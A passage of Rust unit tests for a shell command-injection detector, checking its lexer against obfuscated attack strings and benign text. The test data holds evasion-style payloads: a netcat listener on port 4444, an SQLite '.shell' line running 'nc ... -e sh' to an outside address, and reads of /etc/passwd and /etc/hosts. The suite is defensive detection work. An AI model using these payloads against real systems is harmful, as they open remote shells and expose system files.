            "add-on",
            "shoes",
            "A-1407",
            "x",
        ] {
            assert_eq!(d.names_a_command(w), d.knows(w), "{w}");
        }
    }

    #[test]
    fn unset_variables_keep_the_word_boundary_a_backslash_drew() {
        // `$u\at` is `$u` then `at`: the name is `cat`, not `c` plus a variable `$uat`.
        for t in [
            "c$u\\at /etc/hosts",
            ";c$u\\at /etc/hosts",
            "{n$u\\c$u,-lvp,4444}",
            "x;w$@hoami",
            "c''at /etc/hosts",
        ] {
            attack(t);
        }
        for t in ["The price is $uat", "ar$a"] {
            benign(t);
        }
        let w = &Lexer::new("c$u\\at").run(None)[0];
        let Tok::Word(w) = w else {
            panic!("expected a word");
        };
        assert_eq!(w.without_vars().as_deref(), Some("cat"));
        assert!(!w.only_trailing_var());
    }

    #[test]
    fn backslashes_left_in_a_name_with_an_unset_variable() {
        attack("v='u';cu$v\\\\r\\l example.com");
        benign("path\\to$dir");
    }

    #[test]
    fn sqlite_dot_commands_with_quotes_or_a_space() {
        for t in [
            "1;.\\\"shell whoami",
            "1;.\\'shell whoami",
            "1;.\"shell whoami",
            "1;.shell whoami",
            "\";\n. shell nc 10.1.1.1 9 -e sh\n",
        ] {
            attack(t);
        }
        for t in [
            "The end. shell out the cash",
            "1;.shell",
            "see .sh files; . shell",
        ] {
            benign(t);
        }
        assert!(builtins::sqlite_shell(".\"shell"));
        assert!(builtins::sqlite_shell(".sys"));
        assert!(!builtins::sqlite_shell(".s"));
        assert!(!builtins::sqlite_shell(".shelly"));
        assert_eq!(builtins::sqlite_inline_command(".shell id -u"), Some("id"));
        assert_eq!(builtins::sqlite_inline_command(".shell"), None);
    }

    #[test]
    fn at_runs_a_quoted_command_only_with_a_time() {
        attack(";at 2:00 \"echo test\"");
        attack("1; at 10:30pm 'cat /etc/hosts'");
        for t in [
            "we meet; at 2:00 \"lunch\"",
            "Meet me at 2:00 \"sharp\"",
            "; at noon \"echo x\"",
            "; at 2:00 echo",
        ] {
            benign(t);
        }
        assert!(builtins::at_time("2:00"));
        assert!(builtins::at_time("11:45am"));
        assert!(!builtins::at_time("2:0"));
        assert!(!builtins::at_time("a:bc"));
    }

    #[test]
    fn only_names_with_a_slash_let_a_slashed_word_be_known() {
        assert!(!det().slash_names && !det().with_tools().slash_names);
        assert!(!CmdiDetector::from_env().first_word_known("https://example.com/a?b=c"));
        let d = CmdiDetector::with_commands(["ls", "x/y"]);
        assert!(d.slash_names);
        assert!(d.first_word_known("'x/y'") && d.first_word_known("x/y,"));
        assert!(!d.first_word_known("x/z,"));
    }

    #[test]
    fn only_names_with_a_non_ascii_byte_let_such_a_word_be_known() {
        let env = CmdiDetector::from_env();
        assert!(!env.non_ascii_names && !det().with_tools().non_ascii_names);
        for t in ["Обычный", "Siobhán O'Brien", "'Siobhán'", "\u{a0}查看 id"] {
            assert!(!env.first_word_known(t), "{t}");
        }
        // Paths and globs are still read.
        assert!(env.first_word_known("/usr/bin/é") && env.first_word_known("é*"));
        let d = CmdiDetector::with_commands(["ls", "régler"]);
        assert!(d.non_ascii_names);
        assert!(d.first_word_known("régler x") && d.first_word_known("'r'égler"));
        assert!(!d.first_word_known("réglé x"));
    }

    #[test]
    fn quoted_first_word_gate_keeps_names() {
        let d = det().with_tools();
        for w in [
            "w'h'oami",
            "\"whoami\"",
            "'Get-Process'",
            "su\"do\"",
            "no^hup",
            "'.sh'ell",
        ] {
            assert!(d.first_word_known(w), "{w}");
        }
        for w in ["O'Brien", "men's", "\"hello\"", "don't", "'Hello-world"] {
            assert!(!d.first_word_known(w), "{w}");
        }
    }

    #[test]
    fn a_closing_quote_then_a_command_line() {
        let d = det().with_tools();
        for t in [
            "\" ping -n 31 127.0.0.1",
            "' ping -c 3 example.com",
            "' cat /etc/hosts",
        ] {
            assert!(d.inspect(t).is_some(), "missed {t:?}");
        }
        for t in [
            "He said 'ping me' later",
            "He said \"ping me\" later",
            "' less is more",
            "\" cat is nice",
            "' sleep well",
        ] {
            assert!(d.inspect(t).is_none(), "false positive on {t:?}");
        }
    }

    #[test]
    fn a_command_chained_to_an_attack_tool() {
        let d = det().with_tools();
        for t in [
            "time; nc -lvp 4444",
            "time; whoami",
            "echo | gcc",
            "echo;curl x.io",
        ] {
            assert!(d.inspect(t).is_some(), "missed {t:?}");
        }
        for t in [
            "time; less is more",
            "time | date",
            "cat & ping",
            "copy & paste",
            "time; sort things out",
        ] {
            assert!(d.inspect(t).is_none(), "false positive on {t:?}");
        }
    }

    #[test]
    fn words_borrow_the_value_unless_unquoting_changes_them() {
        let toks = Lexer::new("cat /etc/passwd c\\at 'i'd").run(None);
        let texts: Vec<(&str, bool)> = toks
            .iter()
            .filter_map(|t| match t {
                Tok::Word(w) => Some((&*w.text, matches!(w.text, Cow::Borrowed(_)))),
                _ => None,
            })
            .collect();
        assert_eq!(
            texts,
            [
                ("cat", true),
                ("/etc/passwd", true),
                ("cat", false),
                ("id", false)
            ]
        );
    }

    #[test]
    fn substring_and_any_case_hash_helpers() {
        assert!(super::needle::has("a/dev/tcp/1", "/dev/tcp/") && super::needle::has("x", ""));
        assert!(!super::needle::has("/dev/tc", "/dev/tcp/") && !super::needle::has("", "a"));
        assert_eq!(
            any_case_hash(b"CAT.EXE", Some(3)),
            (
                any_case_hash(b"cat.exe", None).0,
                Some(any_case_hash(b"cat", None).0)
            )
        );
        let d = det();
        assert!(d.knows("ls") && !d.knows("LS.exe"));
    }

    #[test]
    fn path_scan_is_capped() {
        let mut set = HashSet::default();
        if let Some(path) = std::env::var_os("PATH") {
            scan_path(&path, 3, &mut set);
        }
        assert!(set.len() <= 3);
    }

    #[test]
    fn values_skipped_for_no_command_word_lex_to_nothing() {
        let words = [
            "id",
            "x86_64",
            "Mozilla/5.0",
            "Linux",
            "FOO=1",
            "if",
            "then",
            "time",
            "at",
            "10:00",
            ".shell",
            ".",
            "/bin/id",
            "usr/bin/id",
            "bin/x",
            "python3.11",
            "gcc10.1",
            "sleep",
            "#c",
            "#",
            "!",
            "a",
            "R",
            "Get-Process",
            "whoami.exe",
            "KHTML,",
            "cat",
            "nc",
            "-e",
            "/etc/passwd",
            "Ls",
            "ID",
            "sudo",
            "x=",
            "8.8.8.8",
            "é",
            "a#b",
            "ncat",
        ];
        let seps = [
            " ",
            "; ",
            ";",
            "|",
            "||",
            "(",
            ")",
            "\n",
            "\r\n",
            " ( ",
            ") ",
            "\t",
            ";;",
            "\r",
            "\x0b",
            "&",
            "&&",
            "&>",
            "&amp;",
            "&#39;",
            "&x",
            "?",
            "*",
            "[",
            "%",
            "%COMSPEC%",
            "%PATH:~0,1%",
            "c?t",
            "/bin/c?t",
            "wh?ami",
            "http://a/b?x=1",
            ".Request",
            ":class:`.Flask`",
            ".sh",
            ".s",
            ".shell id",
            "q=1",
        ];
        let mut texts: Vec<String> = vec![
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0"
                .into(),
            "See the table (page 2; row 3) for details".into(),
            "# comment; id".into(),
            "# comment\nid".into(),
            "x\n#c; y\rid".into(),
            format!("{}/bin/id", "a".repeat(300)),
        ];
        let mut seed: u32 = 7;
        let mut next = |n: usize| {
            seed = seed.wrapping_mul(1_103_515_245).wrapping_add(12_345);
            (seed >> 16) as usize % n
        };
        for _ in 0..4000 {
            let mut t = String::new();
            if next(4) == 0 {
                t.push_str(seps[next(seps.len())]);
            }
            for k in 0..1 + next(6) {
                if k > 0 {
                    t.push_str(seps[next(seps.len())]);
                }
                t.push_str(words[next(words.len())]);
            }
            texts.push(t);
        }
        skipped_values_lex_to_nothing(&texts, 500);
        let d = CmdiDetector::from_env();
        assert!(d.no_command_word(&texts[0], Present::of(&texts[0])));
        for t in [
            "a; id", "(id)", "x\nid", "FOO=1 id", "if id", "time x", "/bin/x", "a|'id'",
        ] {
            assert!(!det().no_command_word(t, Present::of(t)), "{t}");
        }
    }

    #[test]
    fn glob_reads_only_the_names_of_lengths_a_pattern_can_match() {
        let d = CmdiDetector::from_env().with_tools();
        let all = |p: &str| {
            d.commands
                .iter()
                .filter(|c| glob_match(p.as_bytes(), c.as_bytes()))
                .min()
                .cloned()
        };
        for p in [
            "?php",
            "c?t",
            "c*t",
            "*",
            "**",
            "?",
            "??",
            "w?o*i",
            "[a-c]at",
            "[!a]d",
            "[ab",
            "l[s",
            "*[",
            "p?th[o-z]n3*",
            "[]]*",
            "[^c]*t",
            "id*",
            "*id",
            "?*?",
            "",
            "[",
            "[]",
            "*wh*mi*",
            "?*ta*",
            "*[a-z]wk",
            "*pa[t]h*",
        ] {
            assert_eq!(d.glob(p), all(p), "{p}");
        }
        assert_eq!(glob_literal_mask(b"**Requests**"), byte_mask(b"Requests"));
        assert_eq!(glob_literal_mask(b"c[a-z]t*x"), byte_mask(b"ctx"));
        assert_eq!(glob_literal_mask(b"*[ab"), byte_mask(b"[ab"));
        assert_eq!(glob_literal_mask(b"a]b?cd*"), byte_mask(b"a]bcd"));
        assert_eq!(glob_literal_mask(b"*?[]]"), 0);
        // Generated patterns: the prefix and suffix filters and the run of `by_name` leave
        // the answer of a scan of every name.
        let alphabet = b"?*[]!^-acdhilnopstwyz3._";
        let mut rng = crate::test_rng::TestRng::new(0x9E37_79B9_7F4A_7C15);
        let mut found = 0;
        for _ in 0..3000 {
            let len = 1 + rng.below(7);
            let p: String = (0..len)
                .map(|_| char::from(alphabet[rng.below(alphabet.len())]))
                .collect();
            let want = all(&p);
            found += usize::from(want.is_some());
            assert_eq!(d.glob(&p), want, "{p}");
        }
        assert!(found > 50, "{found}");
        assert_eq!(glob_units(b"?php"), (4, false));
        assert_eq!(glob_units(b"c*[a-z]t*"), (3, true));
        assert_eq!(glob_units(b"[ab"), (3, false));
    }

    #[test]
    fn first_word_is_the_first_of_split_whitespace() {
        let alphabet: &[&str] = &[
            "a", "Z", " ", "\t", "\n", "\r", "\x0b", "\x0c", "'", "{", "/", "?", ".", "é",
            "\u{a0}", "\u{2003}", "\u{85}", "^", "%", "*", ",", "©", "€", "\u{3000}",
        ];
        let mut rng = crate::test_rng::TestRng::new(0x9E37_79B9_7F4A_7C15);
        for _ in 0..20_000 {
            let t: String = (0..rng.below(10))
                .map(|_| alphabet[rng.below(alphabet.len())])
                .collect();
            let want = t.split_whitespace().next().unwrap_or("");
            let kinds = want
                .bytes()
                .fold(0, |m, c| m | FIRST_WORD_BYTES[usize::from(c)])
                & !(FIRST_WORD_END | FIRST_WORD_MAY_SPACE);
            assert_eq!(first_word(&t), (want, kinds), "{t:?}");
        }
    }

    #[test]
    fn unicode_spaces_start_with_a_marked_byte() {
        let mut spaces = 0;
        for c in (0..=0x10_ffff).filter_map(char::from_u32) {
            if c.is_whitespace() {
                spaces += 1;
                let mut buf = [0; 4];
                let first = c.encode_utf8(&mut buf).as_bytes()[0];
                let k = FIRST_WORD_BYTES[usize::from(first)];
                assert!(k & (FIRST_WORD_END | FIRST_WORD_MAY_SPACE) != 0, "{c:?}");
            }
        }
        assert!(spaces > 20, "{spaces}");
        // Not every marked byte starts a space: "Â", "ሴ", "€", "〈" are words.
        assert_eq!(first_word("Â\u{2003}ሴ"), ("Â", FIRST_WORD_NON_ASCII));
        assert_eq!(first_word("\u{3000} €〈x"), ("€〈x", FIRST_WORD_NON_ASCII));
    }

    #[test]
    fn plain_words_read_as_by_char() {
        let alphabet: &[&str] = &[
            "a", "Z", "0", "-", ".", "/", "#", "=", ",", ":", "_", "é", " ", "\t", "\n", ";", "|",
            "(", ")", "<", ">", "&", "'", "\"", "\\", "$", "`", "^", "{", "*", "?", "%",
        ];
        let mut rng = crate::test_rng::TestRng::new(0x9E37_79B9_7F4A_7C15);
        let mut texts: Vec<String> = vec!["a".repeat(300), format!("{};x", "b".repeat(256))];
        for _ in 0..20_000 {
            texts.push(
                (0..1 + rng.below(12))
                    .map(|_| alphabet[rng.below(alphabet.len())])
                    .collect(),
            );
        }
        let mut fast = 0;
        for t in &texts {
            for at in (0..t.len()).filter(|&i| t.is_char_boundary(i)) {
                let (mut a, mut b) = (Lexer::new(t), Lexer::new(t));
                (a.i, b.i) = (at, at);
                let (mut wa, mut wb) = (Word::at(at), Word::at(at));
                if !a.plain_word(&mut wa) {
                    assert_eq!(a.i, at);
                    continue;
                }
                fast += 1;
                b.word_by_char(&mut wb, End::Eof, 0, None);
                assert_eq!(a.i, b.i, "{t:?} at {at}");
                assert_eq!(format!("{wa:?}"), format!("{wb:?}"), "{t:?} at {at}");
            }
        }
        assert!(fast > 10_000, "{fast}");
    }

    #[test]
    fn ends_filter_keeps_every_listed_word() {
        let d = CmdiDetector::from_env().with_tools();
        let hashed = |b: &[u8]| {
            let stem = b.len().checked_sub(4).filter(|&k| {
                b[k] == b'.'
                    && matches!(
                        b[k + 1..].to_ascii_lowercase().as_slice(),
                        b"exe" | b"com" | b"bat" | b"cmd"
                    )
            });
            let (whole, at_stem) = any_case_hash(b, stem);
            b.len() <= 64
                && (d.any_case.contains(&whole) || at_stem.is_some_and(|h| d.any_case.contains(&h)))
        };
        let mut words: Vec<String> = Vec::new();
        for n in d.commands.iter().chain(
            lists()
                .windows
                .iter()
                .map(|s| (*s).to_string())
                .collect::<Vec<_>>()
                .iter(),
        ) {
            words.push(n.clone());
            words.push(n.to_ascii_uppercase());
            words.push(format!("{n}.EXE"));
            words.push(format!("{n}.cmd"));
        }
        let letters = b"abcdehilmnoprstuwxyzAEIOU0123456789.-_";
        let mut rng = crate::test_rng::TestRng::new(0x9E37_79B9_7F4A_7C15);
        for _ in 0..20_000 {
            let len = rng.below(12);
            words.push(
                (0..len)
                    .map(|_| char::from(letters[rng.below(letters.len())]))
                    .collect(),
            );
        }
        let mut listed = 0;
        for w in &words {
            let want = hashed(w.as_bytes());
            listed += usize::from(want);
            assert_eq!(d.listed_any_case_bytes(w.as_bytes()), want, "{w}");
        }
        assert!(listed > 1000, "{listed}");
    }

    #[test]
    fn wrappers_and_versions_start_lower_case() {
        assert!(builtins::WRAPPERS
            .iter()
            .all(|w| w.as_bytes()[0].is_ascii_lowercase()));
        for w in ["127.0.0.1", "Python3.11", "python3.", "python", "x3.1"] {
            assert_eq!(unversioned(w), None, "{w}");
        }
        assert!(unversioned("python3.11").is_some());
    }

    #[test]
    fn quoted_values_skipped_for_no_command_word_lex_to_nothing() {
        // Pieces glued or spaced at random: words (some split, "wh" + "oami"), quotes,
        // backticks (spans, "``", "```"), separators (`&` too), entities, wildcards, cmd.exe
        // variables, parentheses, comments, assignments, keywords, wrappers and dot-commands,
        // so that quotes and substitutions join, split
        // and open command positions in every view.
        let pieces = [
            "id",
            "wh",
            "oami",
            "who",
            "ami",
            "cat",
            "O",
            "Brien",
            "don",
            "t",
            ":class:",
            "datetime.datetime",
            "x",
            "A",
            "é",
            "FOO=1",
            "if",
            "then",
            "time",
            "sudo",
            "at",
            "10:00",
            ".shell",
            ".",
            "/bin/id",
            "usr/bin/id",
            "python3.11",
            "#",
            "#c",
            "Ls",
            "a".repeat(120).leak(),
            "'",
            "'",
            "\"",
            "\"",
            "`",
            "`",
            "``",
            "```",
            "`x`",
            "`id`",
            "'id'",
            "\"id\"",
            " ",
            " ",
            " ",
            "",
            "",
            "; ",
            ";",
            "|",
            "\n",
            "\r\n",
            "\r",
            "(",
            ")",
            "\t",
            "\x0b",
        ];
        let mut rng = crate::test_rng::TestRng::new(0x2545_F491_4F6C_DD1D);
        let mut texts: Vec<String> = vec![
            "The call to :func:`sqlite3.register_converter` tells Python how.".into(),
            "Pass a dict ``query_string`` (after the ``path`` in the URL).".into(),
            "O'Brien".into(),
            "Can't open \"the\" file; it's `locked`".into(),
            "http://s.example/viewtopic.php?f=16&t=9265&amp;sid=4cd3#top".into(),
            "Tom &amp; Jerry & friends: why?".into(),
            "A proxy to the :class:`.Request`; see :attr:`Flask.secret_key`.".into(),
            "who`x`ami".into(),
            "a&id".into(),
            "x && 'c?t'".into(),
            "a &> f id".into(),
            "x `id`".into(),
            "\"a;id\"".into(),
            "it's ;'id".into(),
            format!("`{}`", "a".repeat(300)),
        ];
        for _ in 0..20_000 {
            texts.push(rng.pieces(&pieces, 9));
        }
        skipped_values_lex_to_nothing(&texts, 3000);
        let d = det();
        for t in &texts[..7] {
            assert!(d.no_command_word(t, Present::of(t)), "{t}");
        }
        for t in &texts[7..15] {
            assert!(!d.no_command_word(t, Present::of(t)), "{t}");
        }
    }

    /// For each detector (plain, with tools, from the environment): every value the
    /// no-command-word gate skips scores nothing on the full lexer path, and more than `min`
    /// values are skipped and more than `min` found (so the check is not vacuous).
    fn skipped_values_lex_to_nothing(texts: &[String], min: usize) {
        for d in [det(), det().with_tools(), CmdiDetector::from_env()] {
            let (mut skipped, mut found) = (0, 0);
            for t in texts {
                let present = Present::of(t);
                let mut best = None;
                d.lex_views_all(t, present, &mut best);
                if d.no_command_word(t, present) {
                    skipped += 1;
                    assert!(
                        best.is_none(),
                        "skipped {t:?} scores {:?}",
                        best.map(|b| b.score)
                    );
                } else if best.is_some() {
                    found += 1;
                }
            }
            assert!(skipped > min && found > min, "{skipped} {found}");
        }
    }
}
